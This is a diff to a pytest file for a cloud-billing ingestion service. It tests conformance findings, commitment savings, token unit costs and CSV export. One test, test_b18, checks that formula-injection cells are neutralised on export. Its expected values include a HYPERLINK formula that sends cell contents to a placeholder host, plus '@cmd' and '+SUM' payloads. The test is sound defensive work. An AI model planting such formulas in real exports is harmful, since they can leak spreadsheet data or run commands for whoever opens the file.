@@ -2,15 +2,19 @@
 
 from __future__ import annotations
 
+import csv
 import datetime as dt
+import io
 from decimal import Decimal
 
 import pytest
 
-from finops_exec.exact import ExactSum
+from finops_exec.exact import ExactSum, money_round
 from portfolio.models import BillingSlice, Delivery, SpendRow
+from portfolio.savings import commitment_savings
 from portfolio.selectors import spend_rows_current, spend_rows_for_scope, spend_rows_unallocated
 from portfolio.services.ingest import delivery_create, delivery_ingest, delivery_summary
+from portfolio.units import row_unit_rate, unit_costs
 from scopes.models import Dimension, Operator
 from tests.conftest import BUGCASES_DIR
 from tests.factories import scope_with_rules_create
@@ -107,8 +111,14 @@ def test_b10_purchases_keep_their_effective_cost_and_no_row_is_flagged():
     rows = SpendRow.objects.all()
     assert delivery.rows_loaded == 4
     assert delivery.warnings == []
+    assert delivery.conformance["findings"] == []
+    assert delivery.conformance["columns_missing"] == []
     assert _sum(rows) == Decimal("200.00")
     assert _sum(rows, "effective_cost") == Decimal("90.00")
+    by_description = {row.charge_description: row.effective_cost for row in rows}
+    assert by_description["Onboarding fee consumed this month"] == Decimal("50.00")
+    assert by_description["Monthly SaaS seats"] == Decimal("30.00")
+    assert by_description["Commitment covering future usage"] == Decimal("0.00")
 
 
 @pytest.mark.parametrize("name", ["B11-tags-map.parquet", "B11-tags-string.parquet"])
@@ -203,3 +213,143 @@ def test_b20_gzip_is_found_from_its_magic_bytes():
     assert delivery.files[0]["format"] == "csv.gz"
     assert delivery.rows_loaded == 3
     assert _sum(SpendRow.objects.all()) == Decimal("4.50")
+
+
+def _flagged_rows(delivery: Delivery) -> set[int]:
+    return {row for finding in delivery.conformance["findings"] for row in finding["rows"]}
+
+
+def test_b06_only_the_api_row_is_flagged_and_its_rate_comes_from_cost():
+    delivery = _ingest("B06-pricing-block-size.csv")
+
+    rows = SpendRow.objects.order_by("source_row")
+    assert delivery.rows_loaded == 3
+    assert _sum(rows, "effective_cost") == Decimal("3.90")
+    assert _sum(rows, "list_cost") == Decimal("4.00")
+    assert _flagged_rows(delivery) == {2}
+    list_cost = next(
+        f for f in delivery.conformance["findings"] if f["code"] == "list_cost_mismatch"
+    )
+    assert (list_cost["column"], list_cost["count"], list_cost["rows"]) == ("ListCost", 1, [2])
+    api = rows.get(source_row=2)
+    assert api.list_unit_price * api.pricing_quantity == Decimal("10000.00")
+    assert api.list_cost == Decimal("1.00")
+    assert row_unit_rate(row=api) == (Decimal("0.00004"), "Requests")
+    assert row_unit_rate(row=api, per=Decimal(10000)) == (Decimal("0.4"), "Requests")
+
+
+def test_b09_accrual_savings_leave_the_prepaid_purchase_out():
+    delivery = _ingest("B09-commitment-listcost-double-count.csv")
+
+    rows = SpendRow.objects.all()
+    assert delivery.rows_loaded == 5
+    assert _sum(rows) == Decimal("366.80")
+    assert _sum(rows, "effective_cost") == Decimal("4.80")
+    assert _sum(rows, "list_cost") == Decimal("373.00")  # the naive, double-counted sum
+    savings = commitment_savings(rows=rows)["USD"]
+    assert savings.list_cost == Decimal("8.00")
+    assert savings.effective_cost == Decimal("4.80")
+    assert savings.savings_vs_list == Decimal("3.20")
+    assert savings.contracted_cost == Decimal("7.20")
+    assert savings.savings_vs_contracted == Decimal("2.40")
+    assert savings.prepaid_rows_left_out == 1
+
+
+def test_b10_savings_keep_purchases_whose_effective_cost_is_their_billed_cost():
+    _ingest("B10-purchase-effectivecost.csv")
+
+    savings = commitment_savings(rows=SpendRow.objects.all())["USD"]
+    assert savings.prepaid_rows_left_out == 1
+    assert savings.effective_cost == Decimal("90.00")
+    assert savings.list_cost == Decimal("100.00")
+
+
+def test_b13_the_conformance_report_names_the_column_without_prefix():
+    delivery = _ingest("B13-missing-and-extra-columns.csv")
+
+    report = delivery.conformance
+    assert report["columns_unrecognised"] == ["Id"]
+    assert report["findings"] == [
+        {
+            "code": "custom_column_prefix",
+            "severity": "warning",
+            "file": "B13-missing-and-extra-columns.csv",
+            "column": "Id",
+            "message": "B13-missing-and-extra-columns.csv: column Id is not a FOCUS column and "
+            "its name lacks the x_ prefix that custom columns must have.",
+            "count": 2,
+            "rows": [1, 2],
+        }
+    ]
+
+
+def test_b04_date_format_findings_are_warnings_on_rows_1_3_and_4():
+    delivery = _ingest("B04-datetime-variants.csv")
+
+    finding = next(
+        f for f in delivery.conformance["findings"]
+        if f["code"] == "datetime_format" and f["column"] == "ChargePeriodStart"
+    )  # fmt: skip
+    assert (finding["severity"], finding["count"], finding["rows"]) == ("warning", 3, [1, 3, 4])
+
+
+def test_b17_token_quantities_are_summed_in_base_units():
+    delivery = _ingest("B17-token-unit-mismatch.csv")
+
+    rows = SpendRow.objects.all()
+    assert delivery.rows_loaded == 4
+    assert _sum(rows, "effective_cost") == Decimal("9.00")
+    assert _sum(rows, "consumed_quantity") == Decimal("3900050")  # the wrong, raw sum
+    assert _sum(rows, "consumed_base_quantity") == Decimal("3950000")
+    assert set(rows.values_list("consumed_base_unit", flat=True)) == {"Tokens"}
+
+    per_million = Decimal(1_000_000)
+    (blended,) = unit_costs(rows=rows, base_unit="Tokens", per=per_million)
+    assert (blended.effective_cost, blended.base_quantity) == (Decimal("9.00"), Decimal(3950000))
+    assert blended.cost_per.quantize(Decimal("0.0001")) == Decimal("2.2785")
+    assert money_round(blended.cost_per) == Decimal("2.28")
+    by_sku = {
+        cost.key: cost.cost_per
+        for cost in unit_costs(rows=rows, base_unit="Tokens", per=per_million, group_by="sku_id")
+    }
+    assert by_sku == {
+        "model-a-input": Decimal("3"),
+        "model-b-input": Decimal("2"),
+        "model-b-output": Decimal("2"),
+        "model-c-input": Decimal("0.6"),
+    }
+
+
+def test_b18_the_whole_file_exports_with_the_four_formula_cells_neutralised(finance_api):
+    delivery = _ingest("B18-formula-injection.csv")
+    with open(BUGCASES_DIR / "B18-formula-injection.csv", newline="", encoding="utf-8") as file:
+        source = list(csv.DictReader(file))
+
+    stored = list(SpendRow.objects.order_by("source_row"))
+    assert delivery.rows_loaded == 3
+    assert _sum(SpendRow.objects.all()) == Decimal("15.00")
+    assert [r.sub_account_name for r in stored] == [r["SubAccountName"] for r in source]
+    assert [r.charge_description for r in stored] == [r["ChargeDescription"] for r in source]
+    assert [r.resource_name for r in stored] == [r["ResourceName"] or None for r in source]
+    groups = "sub_account_name,charge_description,resource_name"
+
+    response = finance_api.get("/api/v1/spend/", {"group_by": groups, "format": "csv"})
+    as_json = finance_api.get("/api/v1/spend/", {"group_by": groups}).json()
+
+    cells = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+    body = cells[1:]
+    neutralised = [cell for row in body for cell in row[:3] if cell.startswith("'")]
+    assert neutralised == [
+        '\'=HYPERLINK("http://example.invalid/x?d="&A1,"open")',
+        "'\tCredit with leading tab",
+        "'@cmd test",
+        "'+SUM(1,2)",
+    ]
+    assert [row[4] for row in body] == ["12.00", "-5.00", "8.00"]
+    texts = {
+        (g["sub_account_name"], g["charge_description"], g["resource_name"])
+        for g in as_json["results"]
+    }
+    assert texts == {
+        (r["SubAccountName"], r["ChargeDescription"], r["ResourceName"] or None) for r in source
+    }
